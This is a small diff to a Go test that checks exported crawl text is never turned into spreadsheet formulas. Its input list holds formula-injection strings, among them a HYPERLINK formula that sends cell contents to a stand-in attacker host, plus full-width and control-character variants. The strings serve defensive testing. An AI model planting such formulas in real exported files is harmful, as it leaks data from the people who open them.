@@ -9,7 +9,7 @@ import (
 	"github.com/winnow/winnow/schemas/columnar"
 )
 
-// A text from a crawl is no formula where a table is opened; numbers are numbers.
+// A text from a crawl is never written as a formula. Numbers are not changed.
 func TestNoCellIsAFormula(t *testing.T) {
 	texts := []string{`=HYPERLINK("http://evil.example/?"&A1)`, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1+1", "＠x"}
 	for _, format := range Formats {
